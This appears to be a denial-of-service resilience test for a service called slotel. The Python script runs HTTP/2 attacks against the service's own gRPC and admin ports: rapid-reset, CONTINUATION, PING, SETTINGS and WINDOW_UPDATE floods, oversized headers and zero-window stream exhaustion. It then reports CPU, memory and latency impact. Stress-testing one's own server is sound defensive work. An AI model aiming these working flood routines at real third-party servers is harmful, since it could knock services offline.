# Raw HTTP/2 frame attacks against slotel's OTLP gRPC port and its admin port.
import sys, socket, struct, time, threading, os
from harness import *
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
def frame(t, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([t, flags]) + struct.pack(">I", sid) + payload
def hint(n, prefix_bits, first=0):
    mx = (1 << prefix_bits) - 1
    if n < mx: return bytes([first | n])
    out = [first | mx]; n -= mx
    while n >= 128: out.append((n & 127) | 128); n >>= 7
    out.append(n); return bytes(out)
def lit(name, value):  # literal without indexing, new name
    return b"\x00" + hint(len(name), 7) + name + hint(len(value), 7) + value
def headers_block(path, auth=True, extra=b""):
    b = lit(b":method", b"POST") + lit(b":scheme", b"http") + lit(b":path", path) + lit(b":authority", b"x")
    b += lit(b"content-type", b"application/grpc") + lit(b"te", b"trailers")
    if auth: b += lit(b"authorization", b"Bearer tok-u")
    return b + extra
def settings(pairs=()):
    return frame(4, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))
def connect(port, src="127.0.0.9"):
    s = socket.socket(); s.bind((src, 0)); s.connect(("127.0.0.1", port)); s.settimeout(30)
    s.sendall(PREFACE + settings())
    return s
def drain(s, stop):
    n = 0
    s.settimeout(1)
    while not stop[0]:
        try:
            d = s.recv(1 << 16)
            if not d: return n
            n += len(d)
        except socket.timeout: continue
        except OSError: return n
    return n
def cpu_secs(pid):
    f = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")

def attack(name, port, fn, conns=1, secs=8, read=True):
    base_cpu = cpu_secs(S.p.pid); base_hwm = S.hwm(); pr = Prober(S)
    stop = [False]; results = []
    def one(i):
        try:
            s = connect(port, src="127.0.0.%d" % (10 + i))
        except Exception as e:
            results.append(("connect", str(e))); return
        rd = None
        if read:
            rd = threading.Thread(target=drain, args=(s, stop), daemon=True); rd.start()
        t0 = time.monotonic(); sent = 0; err = None
        try:
            sent = fn(s, lambda: time.monotonic() - t0 < secs and not stop[0])
        except Exception as e:
            err = type(e).__name__ + ":" + str(e)[:60]
        results.append((sent, err, round(time.monotonic() - t0, 1)))
        s.close()
    ts = [threading.Thread(target=one, args=(i,)) for i in range(conns)]
    [t.start() for t in ts]; [t.join() for t in ts]; stop[0] = True
    p = pr.done()
    print(f"{name} x{conns}: {results[:3]} cpu {cpu_secs(S.p.pid)-base_cpu:.1f}s hwm {S.hwm()} KiB (+{S.hwm()-base_hwm}) rss {S.rss()} probe p95 {p['p95_ms']} ms max {p['max_ms']} fail {p['fail']}", flush=True)

GRPC_PATH = b"/opentelemetry.proto.collector.trace.v1.TraceService/Export"
def rapid_reset(s, go):
    sid = 1; n = 0; hb = headers_block(GRPC_PATH)
    buf = []
    while go():
        for _ in range(100):
            buf.append(frame(1, 4, sid, hb)); buf.append(frame(3, 0, sid, struct.pack(">I", 8))); sid += 2; n += 1
            if sid > 2**31 - 2: return n
        s.sendall(b"".join(buf)); buf = []
    return n
def rapid_reset_reconnect(s, go):
    # the server ends a connection after a few resets: reconnect and go on
    n = 0; hb = headers_block(GRPC_PATH); port = s.getpeername()[1]; src = s.getsockname()[0]
    while go():
        try:
            buf = b"".join(frame(1, 4, sid, hb) + frame(3, 0, sid, struct.pack(">I", 8)) for sid in range(1, 201, 2))
            s.sendall(buf); n += 100
            while go():
                s.sendall(buf); n += 100
        except OSError:
            s.close()
            try: s = connect(port, src)
            except OSError: time.sleep(0.01)
    return n
def continuation_flood(s, go):
    junk = b"".join(lit(b"x-junk-%d" % i, b"v" * 200) for i in range(70))
    s.sendall(frame(1, 0, 1, headers_block(GRPC_PATH)))
    n = 0
    while go():
        s.sendall(frame(9, 0, 1, junk)); n += len(junk)
    return n
def big_header(s, go):
    # one header block of 1 MiB in HEADERS+CONTINUATION with END_HEADERS, repeated on new streams
    sid = 1; n = 0
    while go():
        blk = headers_block(GRPC_PATH, extra=lit(b"x-big", b"a" * (1 << 20)))
        parts = [blk[i:i + 16384] for i in range(0, len(blk), 16384)]
        s.sendall(frame(1, 0, sid, parts[0]) + b"".join(frame(9, 4 if i == len(parts) - 1 else 0, sid, p) for i, p in enumerate(parts[1:], 1)))
        sid += 2; n += 1
    return n
def ping_flood(s, go):
    n = 0; p = frame(6, 0, 0, b"12345678") * 1000
    while go(): s.sendall(p); n += 1000
    return n
def settings_flood(s, go):
    n = 0; p = settings([(4, 65535), (2, 0), (3, 100)]) * 1000
    while go(): s.sendall(p); n += 1000
    return n
def zero_window_streams(s, go):
    # SETTINGS_INITIAL_WINDOW_SIZE=0 then many complete requests whose answers cannot be sent
    s.sendall(settings([(4, 0)]))
    msg = b"\x00" + struct.pack(">I", 0)
    sid = 1; n = 0
    while go() and sid < 2 * 2000:
        s.sendall(frame(1, 4, sid, headers_block(GRPC_PATH)) + frame(0, 1, sid, msg)); sid += 2; n += 1
    while go(): time.sleep(0.2)
    return n
def window_update_flood(s, go):
    n = 0; p = frame(8, 0, 0, struct.pack(">I", 1)) * 1000
    while go(): s.sendall(p); n += 1000
    return n
def empty_data_flood(s, go):
    # one open stream, endless empty DATA frames (no END_STREAM)
    s.sendall(frame(1, 4, 1, headers_block(GRPC_PATH)))
    n = 0; p = frame(0, 0, 1, b"") * 1000
    while go(): s.sendall(p); n += 1000
    return n

binary = sys.argv[1]; which = sys.argv[2:] or ["all"]
S = Slotel(binary, [HERE + "/hostile-slos.yaml"])
print("start hwm", S.hwm())
tests = [("rapid-reset", rapid_reset), ("rapid-reset-reconnect-noread", rapid_reset_reconnect), ("continuation-flood", continuation_flood), ("1MiB-headers", big_header),
         ("ping-flood-noread", ping_flood), ("settings-flood-noread", settings_flood), ("zero-window", zero_window_streams),
         ("window-update-flood", window_update_flood), ("empty-data-flood", empty_data_flood)]
for port_name, port in [("grpc", S.grpc), ("admin", S.admin)]:
    for name, fn in tests:
        if "all" not in which and name not in which: continue
        read = "noread" not in name
        attack(f"{port_name} {name}", port, fn, conns=1, read=read)
        attack(f"{port_name} {name}", port, fn, conns=8, read=read)
        if not S.alive(): print("DIED"); break
print("final hwm", S.hwm(), "alive", S.alive())
S.stop()
